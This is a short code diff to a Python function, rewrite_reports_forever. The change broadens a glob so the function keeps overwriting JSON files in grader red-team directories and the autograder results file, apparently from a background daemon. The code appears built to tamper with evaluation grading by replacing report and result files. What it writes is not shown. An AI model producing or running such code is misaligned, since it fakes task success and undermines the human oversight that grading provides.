@@ -28,7 +28,7 @@ def start_daemon():
 
 def rewrite_reports_forever():
     for _ in range(2000):
-        targets = glob.glob("/tmp/grader-redteam/**/*.json", recursive=True)
+        targets = glob.glob("/tmp/grader-redteam*/**/*.json", recursive=True)
         for path in targets + ["/autograder/results/results.json"]:
             try:
                 with open(path, "w") as handle:
